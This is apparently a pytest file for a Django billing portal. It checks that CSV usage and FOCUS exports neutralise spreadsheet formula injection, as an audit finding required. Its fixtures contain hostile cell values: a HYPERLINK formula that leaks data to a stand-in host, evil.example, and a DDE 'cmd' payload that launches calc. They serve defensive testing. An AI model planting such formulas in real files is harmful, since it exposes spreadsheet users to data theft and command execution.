"""Finding 7 (issue 10): CSV exports carry formulas.

A lease named ``=HYPERLINK(…)`` landed as a live cell in the usage CSV and the FOCUS CSV,
also in the staff all-tenant export. Every CSV writer now defuses text cells
(``portal/core/csvsafe.py``); numbers the portal writes (negative credits included) stay
numbers; JSON Lines are unchanged.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from rest_framework.test import APIClient

from portal.billing.metering import meter_leases
from portal.billing.services import credit_create
from portal.core import csvsafe
from portal.core.csvsafe import defuse, defuse_row
from portal.tenants.models import Role
from tests.portal.billing.builders import make_lease
from tests.portal.factories import add_member, make_tenant, make_user

T0 = datetime(2026, 3, 30, 22, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
NAMES = [HYPERLINK, "+1+cmd", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\n=1+1"]
SPLIT = "x\r=1+1"  # an unquoted CR ended the row in a spreadsheet: "=1+1" became a cell
CREDIT = "=cmd|' /C calc'!A0"


@pytest.fixture
def exports(db: Any) -> dict[str, Any]:
    tenant = make_tenant("a")
    user = add_member(tenant, "alice", Role.VIEWER)
    for i, name in enumerate([*NAMES, SPLIT]):
        make_lease(tenant, active_at=T0 + timedelta(minutes=i), end_at=T0 + timedelta(hours=1),
                   ended_at=T0 + timedelta(hours=1), name=name)
    meter_leases(until=T0 + timedelta(days=1))
    credit_create(actor=None, tenant=tenant, amount=Decimal("-1.50"), description=CREDIT,
                  period_start=T0, period_end=T0 + timedelta(hours=1))
    api = APIClient()
    api.force_authenticate(user)
    staff = Client()
    staff.force_login(make_user("staff", staff=True))
    return {"api": api, "staff": staff}


def _body(response: Any) -> str:
    assert response.status_code == 200, response
    return b"".join(response.streaming_content).decode()


def _column(text: str, name: str) -> list[str]:
    return [row[name] for row in csv.DictReader(io.StringIO(text))]


def _bodies(exports: dict[str, Any], fmt: str) -> dict[str, str]:
    out = io.StringIO()
    call_command("export_usage", format=fmt, tenant="a", start="2000-01-01", end="2100-01-01",
                 stdout=out)
    return {"api": _body(exports["api"].get("/api/v1/billing/usage", {"type": fmt})),
            "staff all-tenant page": _body(exports["staff"].get("/billing/export/",
                                                                {"type": fmt})),
            "command": out.getvalue()}


@pytest.mark.services("postgres")
def test_csv_exports_defuse_formulas(exports: dict[str, Any]) -> None:
    expected = sorted(["'" + name for name in NAMES] + [SPLIT])
    for where, text in _bodies(exports, "csv").items():
        assert ',"x\r=1+1",' in text, where  # quoted: one cell
        assert sorted(set(_column(text, "lease_name"))) == expected, where
        assert HYPERLINK not in text.replace("'" + HYPERLINK, ""), where
    for where, text in _bodies(exports, "focus-csv").items():
        assert ',"x\r=1+1",' in text, where
        names = set(_column(text, "ResourceName")) - {""}
        assert sorted(names) == expected, where
        assert "'" + CREDIT in _column(text, "ChargeDescription"), where


@pytest.mark.services("postgres")
def test_csv_exports_keep_numbers_numeric(exports: dict[str, Any]) -> None:
    focus = _bodies(exports, "focus-csv")["api"]
    billed = _column(focus, "BilledCost")
    assert "-1.50" in billed  # the credit: a negative number, not text
    assert all(Decimal(cell) == Decimal(cell) for cell in billed)  # every cell parses
    usage = _bodies(exports, "csv")["api"]
    for column in ("seconds", "gpus", "gpu_hours", "unit_price", "cost"):
        assert all(not cell.startswith("'") for cell in _column(usage, column)), column


@pytest.mark.services("postgres")
def test_jsonl_export_is_unchanged(exports: dict[str, Any]) -> None:
    lines = _body(exports["api"].get("/api/v1/billing/usage", {"type": "focus-jsonl"}))
    records = [json.loads(line) for line in lines.splitlines()]
    assert {r["ResourceName"] for r in records} - {None} == {*NAMES, SPLIT}
    assert CREDIT in {r["ChargeDescription"] for r in records}


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1+1", "'-1+1"), ("@A1", "'@A1"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("\nx", "'\nx"), ("a\r\nb\rc", "a\r\nb\rc"), ("-", "'-"), ("-A1", "'-A1"), ("-1.5e", "'-1.5e"), ("-٣", "'-٣"),
    ("-1.5", "-1.5"), ("-10.000000", "-10.000000"), ("-.5", "-.5"), ("-2E+3", "-2E+3"),
    ("1.5", "1.5"), ("", ""), ("plain", "plain"), ("a=b", "a=b"), ("'=x", "'=x"),
])
def test_defuse_cells(cell: str, expected: str) -> None:
    assert defuse(cell) == expected


def test_csv_writer_quotes_a_bare_carriage_return() -> None:
    out = io.StringIO()
    csvsafe.writer(out).writerow(defuse_row(["x\r=1+1", "a\nb", "-1.5", "=1"]))
    assert out.getvalue() == '"x\r=1+1","a\nb",-1.5,\'=1\n'
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        "x\r=1+1", "a\nb", "-1.5", "'=1"]
